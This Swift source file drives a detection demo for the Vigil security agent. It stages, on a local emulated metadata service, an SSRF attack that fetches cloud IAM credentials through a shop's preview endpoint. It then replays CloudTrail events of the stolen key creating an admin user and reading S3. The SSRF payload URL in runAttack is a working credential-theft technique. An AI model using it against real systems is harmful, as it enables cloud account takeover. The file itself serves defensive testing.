import AsyncHTTPClient
import Foundation
import NIOCore
import NIOHTTP1
import VigilCore
import VigilLinux

/// The SSRF attack story, run for real on this machine: a metadata service in a network namespace of its
/// own, the vulnerable shop in a container-like cgroup, `vigil-agent` with the eBPF sensor, the shop's
/// application events and a CloudTrail folder, then the attack, the stolen credentials used in the cloud,
/// and the incident Vigil tells.
struct Demo {
    struct Options {
        var respond = true
        var benign = false
        var learnFor = 8
        var keep = false
        var summaryPath: String?
    }

    static let account = "111122223333"
    static let role = "vigil-demo-node"
    static let instance = "i-0a1b2c3d4e5f60718"
    static let nodeAddress = "10.0.0.5"
    static let attacker = "203.0.113.7"
    static let newUser = "backup-svc"
    static let bucket = "shop-customer-data"
    static let namespace = "vigil-ssrf"
    static let hostLink = "vssrf-host"
    static let metadataAddress = "169.254.169.254"

    let options: Options
    let work: String
    let binaries: String
    let resources: String
    let http = HTTPClient(eventLoopGroupProvider: .singleton)
    var children: [Process] = []
    var cgroup: Cgroup?

    init(options: Options) throws {
        self.options = options
        let executable = URL(fileURLWithPath: CommandLine.arguments[0]).resolvingSymlinksInPath()
        binaries = executable.deletingLastPathComponent().path
        guard let resources = Bundle.module.resourcePath else { throw DemoError("the demo's resources are missing") }
        self.resources = resources
        work = NSTemporaryDirectory() + "vigil-ssrf-\(getpid())"
        try FileManager.default.createDirectory(atPath: work + "/cloudtrail", withIntermediateDirectories: true)
    }

    mutating func run() async throws -> Summary {
        guard geteuid() == 0 else {
            throw DemoError("run the demo as root: the eBPF sensor, the network namespace and the quarantine need it")
        }
        defer { cleanUp() }
        say("work folder: \(work)")
        let credentials = Credentials()
        try setUpMetadataService(credentials)
        try startAgent()
        let port = try await startShop()
        let shop = "http://127.0.0.1:\(port)"

        say("learning the shop's normal behaviour for \(options.learnFor) s (products, previews of its own images)")
        let learningEnds = Date(timeIntervalSinceNow: Double(options.learnFor) + 2)
        var round = 0
        while Date() < learningEnds {
            try await benignTraffic(shop, port: port, round: round)
            round += 1
            try await Task.sleep(for: .milliseconds(300))
        }
        say("learning done; more normal traffic, which must raise nothing")
        for extra in 0..<5 { try await benignTraffic(shop, port: port, round: round + extra) }

        var attack: AttackResult?
        if !options.benign {
            attack = try await runAttack(shop, credentials: credentials)
        }
        say("waiting for the alerts to settle")
        try await waitForQuiet(expectCloud: !options.benign)
        var check: QuarantineCheck?
        if !options.benign {
            check = try await checkOutbound(shop)
        }
        try stopAgent()
        let summary = try summarize(attack: attack, check: check)
        if let path = options.summaryPath {
            try summary.json.write(toFile: path, atomically: true, encoding: .utf8)
        }
        return summary
    }

    // MARK: - The stage

    /// The metadata service at 169.254.169.254, inside a network namespace this demo creates: the only way
    /// to that address from here is the demo's own veth pair, so nothing leaves the machine.
    private mutating func setUpMetadataService(_ credentials: Credentials) throws {
        removeNamespace()
        let ns = Self.namespace
        try shell("ip netns add \(ns)")
        try shell("ip link add \(Self.hostLink) type veth peer name vssrf-ns")
        try shell("ip link set vssrf-ns netns \(ns)")
        try shell("ip addr add 169.254.169.253/30 dev \(Self.hostLink)")
        try shell("ip link set \(Self.hostLink) up")
        try shell("ip netns exec \(ns) ip addr add \(Self.metadataAddress)/30 dev vssrf-ns")
        try shell("ip netns exec \(ns) ip link set vssrf-ns up")
        try shell("ip netns exec \(ns) ip link set lo up")
        // Refuse to go on unless the route to the metadata address is the demo's own link.
        let route = try shell("ip route get \(Self.metadataAddress)")
        guard route.contains("dev \(Self.hostLink)") else {
            throw DemoError("the route to \(Self.metadataAddress) is not the demo's link: \(route)")
        }
        let server = try spawn(
            "/usr/sbin/ip",
            [
                "netns", "exec", ns, binaries + "/ssrf-story", "metadata", "--host", Self.metadataAddress, "--role",
                Self.role, "--access-key-id", credentials.accessKeyID, "--secret", credentials.secret, "--token",
                credentials.token,
            ], log: "metadata.log")
        children.append(server)
        try waitUntil("the metadata service listens", seconds: 60) {
            guard server.isRunning else { throw DemoError("the metadata service stopped:\n" + tail("metadata.log")) }
            return (try? shell("ip netns exec \(ns) ss -ltn")).map { $0.contains("\(Self.metadataAddress):80 ") }
                == true
        }
        say("metadata service emulator listening on \(Self.metadataAddress):80 in network namespace \(ns)")
    }

    private mutating func startAgent() throws {
        var arguments = [
            "run", "--events-follow", work + "/app-events.jsonl", "--cloudtrail", work + "/cloudtrail",
            "--learn-for", "\(options.learnFor)s", "--node-role", "arn:aws:iam::\(Self.account):role/\(Self.role)",
            "--node-address", Self.nodeAddress, "--node-instance", Self.instance, "--rules",
            resources + "/demo-rules.yaml", "--store", "sqlite:" + work + "/vigil.sqlite", "--alerts",
            work + "/alerts.jsonl", "--policy", resources + "/policy.yaml", "--respond", options.respond ? "on" : "off",
        ]
        arguments += ["--log-level", "info"]
        FileManager.default.createFile(atPath: work + "/app-events.jsonl", contents: nil)
        let agent = try spawn(binaries + "/vigil-agent", arguments, log: "agent.log")
        children.append(agent)
        try waitUntil("vigil-agent attaches its eBPF programs", seconds: 60) {
            guard agent.isRunning else { throw DemoError("vigil-agent stopped:\n" + tail("agent.log")) }
            return read("agent.log").contains("eBPF sensor attached")
        }
        say("vigil-agent running (pid \(agent.processIdentifier)): eBPF sensor, application events, CloudTrail")
    }

    /// Where the shop's binary is installed for the run, as a container image would hold it: not under /tmp,
    /// where a checkout may live, since a program run from /tmp is itself a finding (a dropper's habit).
    static let installFolder = "/var/lib/vigil-ssrf-demo"

    /// Starts the shop in a cgroup named like a docker container's, so that Vigil sees it as a container.
    private mutating func startShop() async throws -> Int {
        try? FileManager.default.removeItem(atPath: Self.installFolder)
        try FileManager.default.createDirectory(atPath: Self.installFolder, withIntermediateDirectories: true)
        let shopBinary = Self.installFolder + "/ssrf-story"
        try FileManager.default.copyItem(atPath: binaries + "/ssrf-story", toPath: shopBinary)
        let filesystem = try CgroupFilesystem.locateV2()
        let id = (0..<4).map { _ in String(format: "%016llx", UInt64.random(in: 0...UInt64.max)) }.joined()
        let group = try Cgroup.create("vigil-ssrf-demo/docker-\(id).scope", in: filesystem)
        cgroup = group
        let portFile = work + "/shop.port"
        let shop = try spawn(
            "/bin/sh",
            [
                "-c", "echo $$ > \(group.absolutePath)/cgroup.procs && exec \"$0\" \"$@\"", shopBinary,
                "serve", "--events", work + "/app-events.jsonl", "--port-file", portFile,
            ], log: "shop.log")
        children.append(shop)
        try waitUntil("the shop listens", seconds: 60) {
            guard shop.isRunning else { throw DemoError("the shop stopped:\n" + tail("shop.log")) }
            return FileManager.default.fileExists(atPath: portFile)
        }
        let port = Int(read("shop.port").trimmingCharacters(in: .whitespacesAndNewlines)) ?? 0
        say("shop running (pid \(shop.processIdentifier)) on 127.0.0.1:\(port), container \(id.prefix(12))")
        return port
    }

    private func benignTraffic(_ shop: String, port: Int, round: Int) async throws {
        _ = try await get("\(shop)/health")
        _ = try await get("\(shop)/products/\(round % 7 + 1)")
        _ = try await get("\(shop)/preview?url=http://127.0.0.1:\(port)/products/\(round % 5 + 1)")
    }

    // MARK: - The attack

    struct AttackResult {
        var request: String
        var stolen: String
    }

    private func runAttack(_ shop: String, credentials: Credentials) async throws -> AttackResult {
        let target = "http://\(Self.metadataAddress)/latest/meta-data/iam/security-credentials/\(Self.role)"
        let request = "\(shop)/preview?url=\(target)"
        say("ATTACK 1/2 (application): GET \(request)")
        let (status, body) = try await get(request)
        let stolen = body.contains(credentials.accessKeyID) ? credentials.accessKeyID : ""
        say("  the shop answered \(status); credentials in the answer: \(stolen.isEmpty ? "none" : stolen)")
        say(
            "ATTACK 2/2 (cloud): from \(Self.attacker), the stolen key creates IAM user \(Self.newUser), makes it admin,"
        )
        say("  gives it an access key, and the new user reads 5 objects from s3://\(Self.bucket)")
        // CloudTrail times have whole seconds: start at the next one, so that the first cloud call is never
        // stamped before the request and the connection that gave the attacker the key.
        try writeCloudTrail(
            credentials: credentials, at: Date(timeIntervalSince1970: Date().timeIntervalSince1970.rounded(.up) + 1))
        return AttackResult(request: request, stolen: stolen)
    }

    /// Writes the demo's CloudTrail file where a trail delivers it, times shifted to now.
    private func writeCloudTrail(credentials: Credentials, at start: Date) throws {
        var text = try String(contentsOfFile: resources + "/attack.cloudtrail.json", encoding: .utf8)
        let values = [
            "ACCOUNT": Self.account, "ROLE": Self.role, "INSTANCE": Self.instance, "ROLE_KEY": credentials.accessKeyID,
            "USER_KEY": credentials.userKeyID, "NEW_USER": Self.newUser, "BUCKET": Self.bucket,
            "ATTACKER": Self.attacker,
        ]
        for (name, value) in values { text = text.replacingOccurrences(of: "${\(name)}", with: value) }
        for offset in 0..<60 {
            let time = start.addingTimeInterval(Double(offset))
            text = text.replacingOccurrences(of: "${T+\(offset)}", with: time.ISO8601Format())
        }
        let stamp = start.ISO8601Format(.iso8601.year().month().day().dateSeparator(.omitted))
        let folder =
            work + "/cloudtrail/AWSLogs/\(Self.account)/CloudTrail/us-east-1/" + stamp.prefix(4) + "/"
            + stamp.dropFirst(4).prefix(2) + "/" + stamp.dropFirst(6).prefix(2)
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        try text.write(
            toFile: folder + "/\(Self.account)_CloudTrail_us-east-1_\(stamp)T0000Z_demo.json", atomically: true,
            encoding: .utf8)
    }

    // MARK: - Results

    struct QuarantineCheck {
        var status: UInt
        var body: String
    }

    /// Asks the shop to fetch the metadata service again: under quarantine its new connection is refused.
    private func checkOutbound(_ shop: String) async throws -> QuarantineCheck {
        let (status, body) = try await get("\(shop)/preview?url=http://\(Self.metadataAddress)/latest/meta-data/")
        say("after the response, the shop fetching \(Self.metadataAddress) again gives \(status): \(body.prefix(120))")
        return QuarantineCheck(status: status, body: body)
    }

    /// Waits until the alert stream has stopped growing for a while (and, after an attack, holds the cloud
    /// steps, which arrive once the CloudTrail folder has been polled).
    private func waitForQuiet(expectCloud: Bool) async throws {
        var lastSize = -1
        var quietSince = Date()
        let deadline = Date(timeIntervalSinceNow: 240)
        while Date() < deadline {
            let text = read("alerts.jsonl")
            if text.utf8.count != lastSize {
                lastSize = text.utf8.count
                quietSince = Date()
            }
            let cloudSeen = !expectCloud || text.contains("demo.cloud.customer-data-read")
            if cloudSeen && Date().timeIntervalSince(quietSince) > 4 { return }
            try await Task.sleep(for: .milliseconds(250))
        }
        if expectCloud { throw DemoError("the cloud steps never arrived; agent log:\n" + tail("agent.log")) }
    }

    private mutating func stopAgent() throws {
        guard let agent = children.first(where: { $0.executableURL?.lastPathComponent == "vigil-agent" }) else {
            return
        }
        kill(agent.processIdentifier, SIGTERM)
        try waitUntil("vigil-agent drains and stops", seconds: 30) { !agent.isRunning }
    }

    private func summarize(attack: AttackResult?, check: QuarantineCheck?) throws -> Summary {
        var findings: [FindingRecord] = []
        var incidents: [String: IncidentRecord] = [:]
        var order: [String] = []
        for line in read("alerts.jsonl").split(separator: "\n") {
            if let finding = FindingRecord(line: String(line)) { findings.append(finding) }
            if let incident = IncidentRecord(line: String(line), findings: findings) {
                if incidents[incident.id] == nil { order.append(incident.id) }
                incidents[incident.id] = incident
            }
        }
        let shopPID = children.first { $0.arguments?.contains("serve") == true }?.processIdentifier ?? -1
        let related = order.compactMap { incidents[$0] }.filter { isDemo($0, shopPID: shopPID) }
        let unrelated = order.count - related.count
        return Summary(
            related: related, unrelatedCount: unrelated, findings: findings, attack: attack, check: check,
            shopPID: shopPID)
    }

    /// Whether an incident involves the demo's actors: the shop's process or container, the node's role or the
    /// user it created. Other processes on this machine can raise incidents of their own meanwhile.
    private func isDemo(_ incident: IncidentRecord, shopPID: Int32) -> Bool {
        incident.entities.contains { entity in
            (entity.kind == "process" && entity.id.hasPrefix("\(shopPID)@"))
                || (entity.kind == "principal" && (entity.id.contains(Self.role) || entity.id.contains(Self.newUser)))
                || (entity.kind == "container" && cgroup.map { $0.path.contains(entity.id) } == true)
        }
    }

    // MARK: - Plumbing

    private func get(_ url: String) async throws -> (UInt, String) {
        let response = try await http.execute(HTTPClientRequest(url: url), timeout: .seconds(15))
        let body = try await response.body.collect(upTo: 1 << 20)
        return (response.status.code, String(buffer: body))
    }

    private func spawn(_ path: String, _ arguments: [String], log: String) throws -> Process {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: path)
        process.arguments = arguments
        process.currentDirectoryURL = URL(fileURLWithPath: work)
        FileManager.default.createFile(atPath: work + "/" + log, contents: nil)
        let output = try FileHandle(forWritingTo: URL(fileURLWithPath: work + "/" + log))
        process.standardOutput = output
        process.standardError = output
        try process.run()
        return process
    }

    @discardableResult
    private func shell(_ command: String) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        let out = work + "/.shell.out"
        FileManager.default.createFile(atPath: out, contents: nil)
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: out))
        process.arguments = ["-c", command]
        process.standardOutput = handle
        process.standardError = handle
        try process.run()
        process.waitUntilExit()
        try? handle.close()
        let text = (try? String(contentsOfFile: out, encoding: .utf8)) ?? ""
        guard process.terminationStatus == 0 else { throw DemoError("'\(command)' failed: \(text)") }
        return text
    }

    private func waitUntil(_ what: String, seconds: Double, _ condition: () throws -> Bool) throws {
        let deadline = Date(timeIntervalSinceNow: seconds)
        while Date() < deadline {
            if try condition() { return }
            usleep(100_000)
        }
        throw DemoError("timed out waiting until \(what)")
    }

    private func read(_ name: String) -> String {
        (try? String(contentsOfFile: work + "/" + name, encoding: .utf8)) ?? ""
    }

    private func tail(_ name: String) -> String {
        read(name).split(separator: "\n").suffix(20).joined(separator: "\n")
    }

    private func say(_ line: String) {
        FileHandle.standardError.write(Data(("[demo] " + line + "\n").utf8))
    }

    private func removeNamespace() {
        _ = try? shell("ip netns del \(Self.namespace) 2>/dev/null; ip link del \(Self.hostLink) 2>/dev/null; true")
    }

    private func cleanUp() {
        for child in children.reversed() where child.isRunning {
            kill(child.processIdentifier, SIGKILL)
            child.waitUntilExit()
        }
        removeNamespace()
        try? FileManager.default.removeItem(atPath: Self.installFolder)
        if let cgroup {
            try? cgroup.remove()
            try? Cgroup(existing: "vigil-ssrf-demo", in: cgroup.filesystem).remove()
        }
        try? http.syncShutdown()
        if !options.keep { try? FileManager.default.removeItem(atPath: work) }
    }
}

/// The node role's temporary credentials the metadata service hands out, and the key the attacker later
/// creates for the new user.
struct Credentials {
    let accessKeyID = "ASIA" + Credentials.random(16, from: "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
    let secret = Credentials.random(40, from: "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    let token =
        "IQoJb3JpZ2luX2VjE"
        + Credentials.random(120, from: "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
    let userKeyID = "AKIA" + Credentials.random(16, from: "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")

    static func random(_ count: Int, from alphabet: String) -> String {
        let characters = Array(alphabet)
        return String((0..<count).map { _ in characters.randomElement()! })
    }
}

/// Why the demo stopped.
struct DemoError: Error, CustomStringConvertible {
    var description: String
    init(_ description: String) { self.description = description }
}
